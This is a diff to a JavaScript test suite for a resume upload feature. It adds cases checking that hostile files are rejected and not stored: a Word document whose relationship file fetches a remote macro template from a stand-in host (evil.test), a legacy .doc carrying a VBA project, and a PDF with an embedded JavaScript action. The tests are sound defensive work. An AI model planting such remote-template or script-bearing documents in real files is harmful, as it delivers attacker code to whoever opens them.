@@ -104,6 +104,36 @@ describe("A teacher's resume", () => {
   })
 
   it.each([
+    [
+      'a Word document with a template from elsewhere',
+      file(
+        docx({
+          more: {
+            'word/_rels/settings.xml.rels':
+              '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.test/x.dotm" TargetMode="External"/></Relationships>',
+          },
+        }),
+        'cv.docx',
+      ),
+      'Please save it as a PDF and choose that.',
+    ],
+    [
+      'a Word document of old with macros',
+      file(Buffer.concat([compoundFile(), compoundFile('_VBA_PROJECT')]), 'cv.doc'),
+      'Please save it as a PDF and choose that.',
+    ],
+    [
+      'a PDF with a script',
+      file('%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj', 'cv.pdf'),
+      'Please print it to a new PDF and choose that.',
+    ],
+  ])('as %s is refused at its field with what to do, and nothing is kept', async (_what, resume, advice) => {
+    const { status, body } = await update({ phone: '1', resume })
+    expect([status, body.errors]).toEqual([415, { resume: expect.stringContaining(advice) }])
+    expect([await stored(), await resumesOf()]).toMatchObject([{ phone: '', resume: '' }, []])
+  })
+
+  it.each([
     ['a program named .pdf', file('MZ\u0090\u0000'.padEnd(600, '\0'), 'cv.pdf')],
     ['a zip named .docx', file(zip({ 'a.txt': 'x' }), 'cv.docx')],
     [
